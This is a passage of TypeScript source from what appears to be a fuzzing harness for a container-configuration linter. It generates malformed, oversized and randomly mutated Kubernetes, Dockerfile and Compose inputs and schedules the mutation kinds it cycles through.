  const fill = (unit: string) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  let text: string;
  switch (variant) {
    case 'yaml-image':
      text = pod(fill(rng.pick(['a', 'a/', 'a.', 'a-b', 'A'])));
      break;
    case 'yaml-quoted-image':
      text = pod(`"${fill(rng.pick(['\\x41', 'a', '\\"', '\\u00e9']))}"`);
      break;
    case 'yaml-comment':
      text = pod('nginx:1 #' + fill('# shipshape-ignore '));
      break;
    case 'yaml-flow-seq':
      text = deployment('nginx:1', '', `          args: [${fill('a, ')}]`);
      break;
    case 'yaml-key':
      text = `${fill('k')}: 1\n` + pod('nginx');
      break;
    case 'json-one-line': {
      const items: object[] = [];
      let length = 0;
      for (let i = 0; length < size; i++) {
        const item = {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: `p${i}` },
          spec: { containers: [{ name: 'c', image: `nginx:${i}` }] },
        };
        items.push(item);
        length += JSON.stringify(item).length + 1;
      }
      text = JSON.stringify({ apiVersion: 'v1', kind: 'List', items });
      break;
    }
    case 'no-newline-garbage':
      text = Array.from({ length: size }, () => String.fromCharCode(rng.int(0, 0x7f)))
        .join('')
        .replace(/[\n\r]/g, ' ');
      break;
    case 'dockerfile-from':
      text = `FROM ${fill(rng.pick(['a', 'a/', '$A', 'a-']))}\n`;
      break;
    case 'dockerfile-run':
      text = `FROM nginx:1\nRUN ${fill('echo x && ')}\nUSER root\n`;
      break;
    case 'dockerfile-arg':
      text = `ARG X=${fill('ab')}\nFROM $X\n`;
      break;
    case 'dockerfile-comment':
      text = `# ${fill('escape=` ')}\nFROM nginx\n`;
      break;
    default:
      text = `FROM nginx ${fill('\\ ')}\n`;
      break;
  }
  return { text, detail: `${variant}, ${(size / 1024 / 1024).toFixed(1)} MB line` };
}

/** A single document's text without its `---` lines, for repeating. */
function documentsOf(seed: SeedFile): string[] {
  // Not the Helm template: one templated document makes the whole file a skipped template.
  return seed.text
    .split(/^---[^\n]*\n/m)
    .map((d) => d.trim())
    .filter((d) => /^kind:/m.test(d) && d.includes('image') && !d.includes('{{'));
}

function huge(rng: Random, seeds: readonly SeedFile[], maxBytes: number): Made {
  const target = rng.int(Math.floor(maxBytes / 2), maxBytes);
  const variant = rng.pick(['stream', 'stream', 'argo', 'list', 'dockerfile', 'compose']);
  const k8s = small(seeds)
    .filter((s) => s.kind === 'yaml')
    .flatMap(documentsOf);
  const parts: string[] = [];
  let length = 0;
  const add = (part: string) => {
    parts.push(part);
    length += part.length + 5;
  };
  switch (variant) {
    case 'stream':
      while (length < target) add(rng.pick(k8s));
      return {
        text: parts.join('\n---\n') + '\n',
        detail: `${parts.length} documents repeated from the corpus, ${(length / 1048576).toFixed(1)} MB`,
      };
    case 'argo': {
      const argo = seeds.find((s) => s.name.includes('argo-cd--manifests--install'));
      const text = argo ? argo.text : k8s.join('\n---\n');
      const copies = Math.max(1, Math.round(target / text.length));
      return { text: Array(copies).fill(text).join('\n---\n'), detail: `${copies} copies of ${argo?.name ?? 'the corpus manifests'}` };
    }
    case 'list': {
      const docs = k8s.filter((d) => !d.includes('\t'));
      add('apiVersion: v1\nkind: List\nitems:');
      while (length < target) add('- ' + rng.pick(docs).replace(/\n/g, '\n  '));
      return { text: parts.join('\n') + '\n', detail: `one List of ${parts.length - 1} items, ${(length / 1048576).toFixed(1)} MB` };
    }
    case 'dockerfile': {
      const dockerfiles = small(seeds).filter((s) => s.kind === 'dockerfile' && !/^#\s*escape/im.test(s.text));
      while (length < target) add(rng.pick(dockerfiles).text);
      return { text: parts.join('\n'), detail: `${parts.length} Dockerfiles concatenated, ${(length / 1048576).toFixed(1)} MB` };
    }
    default: {
      add('services:');
      for (let i = 0; length < target; i++)
        add(
          `  s${i}:\n    image: "registry.example.com/team/app-${i}:\${TAG_${i % 50}:-1.${i}}"\n    platform: ` +
            `linux/amd64${i % 7 === 0 ? '\n    build: .' : ''}`,
        );
      return {
        text: parts.join('\n') + '\n',
        detail: `Compose file with ${parts.length - 1} services, ${(length / 1048576).toFixed(1)} MB`,
      };
    }
  }
}

function jsonManifest(rng: Random): Made {
  const container = () => ({
    name: rng.pick(['a', 'b', '']),
    image: rng.chance(0.3)
      ? oddReference(rng)
      : rng.pick(['nginx', 'nginx:1.27', `nginx@${DIGEST_64}`, 'ghcr.io/x/y:latest', 5, null, ['x'], { a: 1 }]),
    ...(rng.chance(0.5) && {
      securityContext: { runAsUser: rng.pick([0, 1000, -1, 1.5, '0', null]), runAsNonRoot: rng.pick([true, false, 'true', null]) },
    }),
  });
  const podSpec = () => ({
    containers: Array.from({ length: rng.int(0, 3) }, container),
    ...(rng.chance(0.3) && { initContainers: [container()] }),
  });
  const kind = rng.pick(['Pod', 'Deployment', 'CronJob', 'List', 'PodList', 'Rollout']);
  let object: object;
  if (kind === 'Pod') object = { apiVersion: 'v1', kind, metadata: { name: 'p' }, spec: podSpec() };
  else if (kind === 'CronJob')
    object = { apiVersion: 'batch/v1', kind, spec: { jobTemplate: { spec: { template: { spec: podSpec() } } } } };
  else if (kind === 'List' || kind === 'PodList')
    object = {
      apiVersion: 'v1',
      kind,
      items: Array.from({ length: rng.int(0, 5) }, () => ({ ...(kind === 'List' && { apiVersion: 'v1', kind: 'Pod' }), spec: podSpec() })),
    };
  else object = { apiVersion: 'apps/v1', kind, spec: { template: { spec: podSpec() } } };
  const text = JSON.stringify(object, null, rng.pick([0, 2, '\t']));
  return { text, detail: `JSON ${kind}` };
}

function compose(rng: Random): Made {
  const services = Array.from({ length: rng.int(0, 6) }, (_, i) => {
    const lines = [`  s${i}:`];
    if (rng.chance(0.8))
      lines.push(
        `    image: ${quoteYaml(rng, rng.pick(['nginx', 'redis:${TAG:-7}', 'postgres:${PG?required}', '$$literal', 'x:${A-${B:-c}}', oddReference(rng)]))}`,
      );
    if (rng.chance(0.3)) lines.push(`    build: ${rng.pick(['.', '{context: .}', '~', '[]'])}`);
    if (rng.chance(0.3)) lines.push(`    platform: ${rng.pick(['linux/amd64', '${P:-linux/arm64}', '$P', '""'])}`);
    if (rng.chance(0.2)) lines.push('    <<: *base');
    return lines.join('\n');
  });
  const head = rng.chance(0.3) ? 'x-base: &base {image: "nginx:1", platform: linux/amd64}\n' : '';
  const text = `${head}${rng.pick(['', 'version: "3.9"\n', 'name: app\n'])}services:${services.length === 0 ? rng.pick([' {}', ' []', ' ~', '']) : ''}\n${services.join('\n')}\n`;
  const env = rng.chance(0.5) ? { TAG: rng.pick(['1', '', 'latest', '$$', '${TAG}']), P: 'linux/amd64', A: 'x' } : undefined;
  return { text, detail: `Compose with ${services.length} services`, ...(env && { options: { composeEnv: env } }) };
}

function randomText(rng: Random): Made {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789 \t\n\n\n:-{}[],&*#!|>\'"%@`$\\/.~?<=_\r\u0000é😀\ufeff';
  const chars = [...alphabet];
  const length = rng.skewed(0, 8192);
  let text = '';
  for (let i = 0; i < length; i++) text += rng.chance(0.05) ? rng.pick(ALL_TOKENS) : rng.pick(chars);
  return { text, detail: `${length} random characters and tokens` };
}

function randomOptions(rng: Random): FuzzOptions {
  const pickSome = (record: Record<string, string>) => Object.fromEntries(Object.entries(record).filter(() => rng.chance(0.5)));
  const values: Record<string, string> = {
    A: 'nginx',
    B: '',
    X: '${A}',
    BASE: 'alpine:3',
    TARGETOS: 'linux',
    TARGETPLATFORM: 'linux/amd64',
    VERSION: '1.0',
    USER: 'root',
    IMAGE: 'nginx:latest',
    TAG: '1',
    V0: 'x',
    A0: 'x'.repeat(rng.pick([10, 100_000])),
    '': 'empty',
    'a b': 'c',
    __proto__x: 'y',
  };
  const severities: Severity[] = ['error', 'warning', 'info'];
  const rules: Record<string, { enabled?: boolean; severity?: Severity | Record<string, Severity> }> = {};
  for (const rule of ['unpinned-image', 'root-user', 'invalid-reference', 'unresolved-image', 'vulnerable-image'] as const) {
    if (rng.chance(0.3))
      rules[rule] = {
        enabled: rng.chance(0.7),
        ...(rng.chance(0.5) && {
          severity: rng.chance(0.5)
            ? rng.pick(severities)
            : { latest: rng.pick(severities), implicit: rng.pick(severities), bogus: rng.pick(severities) },
        }),
      };
  }
  return {
    ...(rng.chance(0.6) && { buildArgs: pickSome(values) }),
    ...(rng.chance(0.4) && { composeEnv: pickSome(values) }),
    ...(Object.keys(rules).length > 0 && { rules }),
    ...(rng.chance(0.3) && {
      imageUsers: { 'docker.io/library/nginx:1.27': 'nginx', 'docker.io/library/alpine:3': '0', 'docker.io/library/nginx': '' },
    }),
  };
}

// ---------------------------------------------------------------------------------------------
// The schedule

/** One cycle of mutations after the unmodified seeds: every kind appears in each cycle, the costly ones least. */
export const CYCLE: readonly string[] = [
  'byte-flip',
  'tokens',
  'truncate',
  'splice',
  'lines',
  'crlf',
  'bom',
  'nul',
  'invalid-utf8',
  'deep-nesting',
  'alias-bomb',
  'dockerfile-escape',
  'substitution-bomb',
  'odd-reference',
  'random',
  'json',
  'compose',
  'long-line',
  'huge',
  'tokens',
  'byte-flip',
  'splice',
  'odd-reference',
  'substitution-bomb',
  'deep-nesting',
  'alias-bomb',
  'tokens',
  'dockerfile-escape',
  'lines',
  'byte-flip',
  'compose',
  'json',
  'odd-reference',
  'tokens',
  'crlf',
  'invalid-utf8',
  'substitution-bomb',
  'splice',
  'random',
  'long-line',
  'kustomize-bomb',
  'chart-bomb',
  'dotenv-bomb',
];

/** Input `index` of the round with `seed`. */
export function makeInput(
  seeds: readonly SeedFile[],
  seed: number,
  index: number,
  settings: GenerateSettings = DEFAULT_SETTINGS,
): FuzzInput {
  const rng = mulberry32(deriveSeed(seed, index));
  const editSeed = deriveSeed(seed, index, 1);
  if (index < seeds.length) {
    const file = seeds[index]!;
    return { index, mutation: 'seed', detail: file.name, text: file.text, options: {}, editSeed };
  }
  const mutation = CYCLE[(index - seeds.length) % CYCLE.length]!;
  let made: Made;
  let project: ProjectMade | undefined;
  const base = () => pickSeed(rng, seeds);
  const mutate = (name: string, fn: (rng: Random, text: string) => string): Made => {
    const file = base();
    return { text: fn(rng, file.text), detail: `${name} of ${file.name}` };
  };
  switch (mutation) {
    case 'byte-flip':
      made = mutate('byte flips', byteFlip);
      break;
    case 'truncate':
      made = mutate('truncation', truncate);
      break;
    case 'tokens':
      made = mutate('tokens', tokens);
      break;
    case 'lines':
      made = mutate('line edits', lines);
      break;
    case 'crlf':
      made = mutate('line endings', lineEndings);
      break;
    case 'bom':
      made = mutate('BOM', bom);
      break;
    case 'nul':
      made = mutate('NUL bytes', nul);
      break;
    case 'invalid-utf8':
      made = mutate('invalid UTF-8', invalidUtf8);
      break;
    case 'splice': {
      const a = base();
      const b = base();
      made = { text: splice(rng, a.text, b.text), detail: `${a.name} + ${b.name}` };
      break;
    }
    case 'deep-nesting':
      made = deepNesting(rng);
      break;
    case 'alias-bomb':
      made = aliasBomb(rng);
      break;
    case 'dockerfile-escape':
      made = dockerfileEscapes(rng);
      break;
    case 'substitution-bomb':
      made = substitutionBomb(rng);
      break;
    case 'odd-reference':
      made = oddReferences(rng);
      break;
    case 'long-line':
      made = longLine(rng, settings.longLineBytes);
      break;
    case 'huge':
      made = huge(rng, seeds, settings.hugeBytes);
      break;
    case 'json':
      made = jsonManifest(rng);
      break;
    case 'compose':
      made = compose(rng);
      break;
    case 'kustomize-bomb':
    case 'chart-bomb':
    case 'dotenv-bomb':
      project = (mutation === 'kustomize-bomb' ? kustomizeBomb : mutation === 'chart-bomb' ? chartBomb : dotenvBomb)(rng);
      made = { text: project.files[project.main]!, detail: project.detail };
      break;
    default:
      made = randomText(rng);
      break;
  }
  let { text, detail } = made;
  // Stack a few cheap mutations on some of the smaller inputs.
  if (text.length < 512 * 1024 && mutation !== 'huge' && rng.chance(0.25)) {
    const extra: string[] = [];
    for (let i = rng.int(1, 3); i > 0; i--) {
      const [name, fn] = rng.pick(HAVOC);
      text = fn(rng, text);
      extra.push(name);
    }
    detail += ` + ${extra.join(', ')}`;
  }
  const options = made.options ?? (rng.chance(0.25) ? randomOptions(rng) : {});
  return { index, mutation, detail, text, options, editSeed, ...(project && { files: project.files }) };
}
